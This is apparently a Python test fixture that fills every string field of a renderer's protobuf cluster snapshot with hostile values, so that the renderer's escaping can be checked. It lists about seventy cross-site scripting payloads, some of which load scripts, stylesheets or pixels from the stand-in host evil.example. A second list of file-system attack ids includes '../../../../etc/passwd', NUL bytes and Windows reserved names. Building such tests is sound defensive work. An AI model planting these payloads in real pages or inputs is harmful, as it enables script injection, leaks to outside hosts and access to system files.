"""Hostile snapshots for tests: script injection in every string, ids that attack file names."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from google.protobuf.descriptor import FieldDescriptor
from google.protobuf.message import Message

from renderer.snapshot.schema import pb
from tests import protogen

FLAG = "window.__pwned=1"
EVIL = "http://evil.example"

# Each payload, if it ran, would set window.__pwned, open a dialog, or request EVIL.
XSS_PAYLOADS = [
    # script elements
    f"<script>{FLAG}</script>",
    f"<SCRIPT>{FLAG}</SCRIPT>",
    f"<script src={EVIL}/x.js></script>",
    f"<script>{FLAG}//",
    f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
    f"\x00<script>{FLAG}</script>",
    # event handlers
    f"<img src=x onerror={FLAG}>",
    "<img src=x onerror=&#119;indow.__pwned=1>",
    f"<svg onload={FLAG}>",
    "<svg/onload=alert(1)>",
    f"<body onload={FLAG}>",
    f"<details open ontoggle={FLAG}>",
    f"<input autofocus onfocus={FLAG}>",
    f"<video><source onerror={FLAG}></video>",
    f"<audio src=x onerror={FLAG}>",
    f"<marquee onstart={FLAG}>x</marquee>",
    "<img src=x:alert(1) onerror=eval(src)>",
    # breaking out of attributes and elements
    f'"><script>{FLAG}</script>',
    f"'><img src=x onerror={FLAG}>",
    f'" onmouseover="{FLAG}" x="',
    f"' onfocus='{FLAG}' autofocus='",
    f'" autofocus onfocus="{FLAG}',
    f"</script><script>{FLAG}</script>",
    "</script><img src=x onerror=alert(1)>",
    f"</style><script>{FLAG}</script>",
    f"</title><script>{FLAG}</script>",
    f"</textarea><script>{FLAG}</script>",
    f"</pre><script>{FLAG}</script>",
    f"<!--<script>{FLAG}</script>-->",
    f"--><script>{FLAG}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>">',
    f"<template><script>{FLAG}</script></template>",
    # SVG and MathML
    f"<svg><script>{FLAG}</script></svg>",
    f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{FLAG}"><text>x</text></a></svg>',
    f'<math><a xlink:href="javascript:{FLAG}">x</a></math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}>",
    # URLs
    f"javascript:{FLAG}",
    f"JaVaScRiPt:{FLAG}",
    f" javascript:{FLAG}",
    f"data:text/html,<script>{FLAG}</script>",
    "vbscript:msgbox(1)",
    f'<a href="javascript:{FLAG}">x</a>',
    f'<iframe src="javascript:{FLAG}"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<object data="javascript:{FLAG}"></object>',
    f'<form action="javascript:{FLAG}"><button>x</button></form>',
    # requests leaving the bundle
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    f'<img src="{EVIL}/pixel.png">',
    # template syntax of several engines
    "{{ 7*7 }}",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    # encodings and unicode tricks
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    f"\u202e<script>{FLAG}</script>",
    f"\u2028\u2029</script><script>{FLAG}</script>",
    "z\u200d\u200b\ufeffero-width",
    "a" + "\u0301" * 200,
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "`${alert(1)}`",
]


def _strings(message: Message) -> Iterator[tuple[Message, FieldDescriptor]]:
    """Every string field (singular or repeated) in the message tree, and every string map."""
    for field in message.DESCRIPTOR.fields:
        if field.message_type is not None and field.message_type.GetOptions().map_entry:
            yield message, field
        elif field.message_type is not None:
            children = getattr(message, field.name)
            for child in children if field.is_repeated else [children]:
                yield from _strings(child)
        elif field.type == FieldDescriptor.TYPE_STRING:
            yield message, field


def fill_strings(message: Message, values: Iterator[str]) -> Message:
    """Set every string in a populated message, map keys included, to the next value."""
    for holder, field in list(_strings(message)):
        container = getattr(holder, field.name)
        if field.message_type is not None:  # a map: rebuild with hostile keys
            value_field = field.message_type.fields_by_name["value"]
            items = list(container.items())
            holder.ClearField(field.name)
            for _, value in items:
                key = next(values)
                if value_field.message_type is not None:
                    container[key].CopyFrom(value)
                elif value_field.type == FieldDescriptor.TYPE_STRING:
                    container[key] = next(values)
                else:
                    container[key] = value
        elif field.is_repeated:
            container[:] = [next(values) for _ in container]
        else:
            setattr(holder, field.name, next(values))
    return message


def hostile_cluster(jobs: int = len(XSS_PAYLOADS)) -> pb.ClusterSnapshot:
    """A cluster where every string of every message is an attack, ids included.

    Job k's id is payload k (made unique), and the controller, the worker, the logs,
    the queue and the endpoints all refer to it, so every page of the bundle is drawn.
    """
    values = itertools.cycle(XSS_PAYLOADS)
    cluster = pb.ClusterSnapshot(captured_at_ms=1_795_918_417_000)
    controller = cluster.controller
    controller.captured_at_ms = cluster.captured_at_ms
    worker_id = XSS_PAYLOADS[0]
    worker = cluster.workers.add(captured_at_ms=cluster.captured_at_ms)
    for variant in range(jobs):
        job_id = f"{XSS_PAYLOADS[variant % len(XSS_PAYLOADS)]}#{variant}"
        job = fill_strings(protogen.populate(pb.ControllerJobSnapshot(), variant), values)
        job.status.state = 1 + variant % 12  # known states and newer ones
        job.status.job_id, job.status.worker_id = job_id, worker_id
        controller.jobs.append(job)
        controller.queue_order.append(job_id)
        status = fill_strings(protogen.populate(pb.JobStatus(), variant), values)
        status.job_id = job_id
        worker.jobs.append(status)
        tail = worker.job_logs[job_id]
        for index, payload in enumerate(XSS_PAYLOADS):
            tail.lines.add(timestamp_ms=1_795_918_000_000 + index, source=payload, data=payload)
        tail.lines.add(source="stderr", data=XSS_PAYLOADS[variant % len(XSS_PAYLOADS)])
        tail.total_lines = 10_000
        endpoint = fill_strings(protogen.populate(pb.Controller.Endpoint()), values)
        endpoint.job_id = job_id
        controller.endpoints.append(endpoint)
        action = fill_strings(protogen.populate(pb.ActionLogEntrySnapshot()), values)
        action.job_id, action.worker_id = job_id, worker_id
        controller.actions.append(action)
    for index in range(3):
        known = fill_strings(protogen.populate(pb.ControllerWorkerSnapshot(), index), values)
        controller.workers.append(known)
    controller.workers[0].worker_id = worker_id
    worker.worker_id = worker_id
    return cluster


# Ids that attack file systems: traversal, separators, NUL and control characters,
# names Windows reserves, huge ids, and ids that differ only in case.
HOSTILE_IDS = [
    "../../../../etc/passwd",
    "..",
    ".",
    "a/b/c",
    "a\\b\\c",
    "/absolute",
    "nul\x00byte",
    "tab\there\nnewline\rreturn",
    "\x1b[2Jclear",
    "CON",
    "con.txt",
    "NUL",
    "aux.html",
    "LPT1",
    "COM9.",
    "x" * 20_000,
    "Job-A",
    "job-a",
    "JOB-A",
    "trailing.",
    "trailing ",
    "",
    "index",
    "j-index",
    "%2e%2e%2f",
    "ünïcödé-日本",
    "emoji-🚀",
]
